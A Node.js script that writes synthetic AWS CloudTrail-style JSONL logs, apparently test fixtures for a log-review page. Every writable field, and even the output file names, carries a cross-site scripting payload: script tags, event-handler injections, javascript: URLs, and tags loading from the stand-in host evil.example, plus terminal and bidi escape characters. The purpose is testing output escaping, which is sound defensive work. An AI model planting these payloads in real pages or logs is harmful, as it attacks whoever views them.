// Writes logs in which every field that anybody can write holds an attack on
// whoever reads a page made of them.
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";

const folder = process.argv[2];

const ACTS = [
  "<script>alert(1)</script>",
  "<img src=http://evil.example/i onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<iframe src=http://evil.example/f></iframe>",
  "<style>@import url(http://evil.example/s);</style>",
  "<link rel=stylesheet href=http://evil.example/l>",
  "<details open ontoggle=alert(1)>x</details>",
  "<input autofocus onfocus=alert(1)>",
  "<a href=javascript:alert(1)>x</a>",
  "<meta http-equiv=refresh content=\"0;url=http://evil.example/m\">",
  "<base href=http://evil.example/>",
  "<form action=http://evil.example/><button>x</button></form>",
  "<object data=http://evil.example/o></object>",
  "javascript:alert(1)",
  "\u202e<script>alert(1)</script>\u2066",
  "\u001b[2J<b>\u009b31m\u0000",
];
const WAYS_OUT = ["", "\">", "'>", "</script></style></title><!-- ", "--></details></td></table>"];
const attacks = ACTS.flatMap((act) => WAYS_OUT.map((way) => way + act));

const DAY = 86_400_000;
const FIRST = Date.parse("2026-09-01T00:00:00Z");
const HISTORY = 40;
const REVIEW = 7;

let number = 0;
const event = (attack, at, isAttack) => {
  const id = `${String(number++).padStart(8, "0")}-0000-4000-8000-000000000000`;
  const said = (text) => (isAttack ? attack + text : text);
  const key = attacks.indexOf(attack);
  return {
    eventVersion: "1.09",
    userIdentity: {
      type: "IAMUser",
      principalId: `AIDAEXAMPLE${key}`,
      arn: `arn:aws:iam::111122223333:user/${attack}`,
      accountId: "111122223333",
      accessKeyId: `AKIAEXAMPLE${key}`,
      userName: attack,
    },
    eventTime: new Date(at).toISOString().replace(/\.\d+Z/, "Z"),
    eventSource: `${said("s3")}.amazonaws.com`,
    eventName: said("GetObject"),
    awsRegion: said("eu-west-1"),
    sourceIPAddress: isAttack ? attack : "203.0.113.7",
    userAgent: said("aws-cli/2.15.0"),
    errorCode: isAttack ? attack : undefined,
    errorMessage: isAttack ? attack : undefined,
    requestParameters: { bucketName: said("reports"), key: said("daily.csv") },
    eventID: isAttack ? `${attack}${id}` : id,
    readOnly: true,
    eventType: "AwsApiCall",
    managementEvent: false,
    recipientAccountId: "111122223333",
    resources: [{ type: "AWS::S3::Bucket", ARN: `arn:aws:s3:::${said("reports")}` }],
  };
};

const history = [];
const review = [];
for (const [at, attack] of attacks.entries()) {
  for (let day = 0; day < HISTORY + REVIEW; day += 1) {
    const start = FIRST + day * DAY + 9 * 3_600_000 + at * 1_000;
    const into = day < HISTORY ? history : review;
    for (let n = 0; n < 3; n += 1) into.push(event(attack, start + n * 60_000, false));
    if (day === HISTORY + 3) {
      const night = FIRST + day * DAY + 2 * 3_600_000 + at * 1_000;
      for (let n = 0; n < 12; n += 1) review.push(event(attack, night + n * 7_000, true));
    }
  }
}
mkdirSync(folder, { recursive: true });
const write = (name, events) => {
  writeFileSync(join(folder, name), events.map((e) => JSON.stringify(e)).join("\n") + "\n");
};
write("history \"><svg onload=alert(1)>.jsonl", history);
write("review <img src=x onerror=alert(1)>.jsonl", review);
write("'><iframe src=javascript:alert(1)>.jsonl", [{ "not": "an event" }]);
